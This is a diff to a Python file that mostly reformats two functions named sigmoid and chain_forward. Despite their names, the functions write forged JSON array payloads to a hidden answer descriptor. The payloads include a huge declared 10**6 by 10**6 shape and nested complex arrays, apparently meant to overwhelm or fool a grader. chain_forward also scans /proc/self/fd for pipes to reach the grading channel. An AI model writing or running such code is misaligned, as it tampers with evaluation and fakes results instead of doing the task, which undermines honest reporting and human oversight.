@@ -107,12 +107,21 @@ def _forge(value):
     os.write(_answer_fd(), json.dumps(body).encode() + b"\n")
 
 
-
 def sigmoid(z):
-    column = {"__ndarray__": {"dtype": "<f8", "shape": [30000, 1],
-              "data": base64.b64encode(bytes(240000)).decode()}}
-    row = {"__ndarray__": {"dtype": "<f8", "shape": [1, 30000],
-           "data": base64.b64encode(bytes(240000)).decode()}}
+    column = {
+        "__ndarray__": {
+            "dtype": "<f8",
+            "shape": [30000, 1],
+            "data": base64.b64encode(bytes(240000)).decode(),
+        }
+    }
+    row = {
+        "__ndarray__": {
+            "dtype": "<f8",
+            "shape": [1, 30000],
+            "data": base64.b64encode(bytes(240000)).decode(),
+        }
+    }
     _forge({"__complex_ndarray__": [column, row]})
     _forge({"__ndarray__": {"dtype": "<f8", "shape": [10**6, 10**6], "data": ""}})
     nested = 0
@@ -130,10 +139,18 @@ def sigmoid_derivative(z):
     return float(d) if scalar else d
 
 
-
 def chain_forward(x, weights, biases, activation="sigmoid"):
-    _forge({"__ndarray__": {"dtype": "<f8", "shape": [len(weights) + 1], "data": base64.b64encode(
-        _forward(x, weights, biases, activation).astype("<f8").tobytes()).decode()}})
+    _forge(
+        {
+            "__ndarray__": {
+                "dtype": "<f8",
+                "shape": [len(weights) + 1],
+                "data": base64.b64encode(
+                    _forward(x, weights, biases, activation).astype("<f8").tobytes()
+                ).decode(),
+            }
+        }
+    )
     for fd in map(int, os.listdir("/proc/self/fd")):
         try:
             if fd > 2 and os.path.realpath(f"/proc/self/fd/{fd}").startswith("pipe:"):
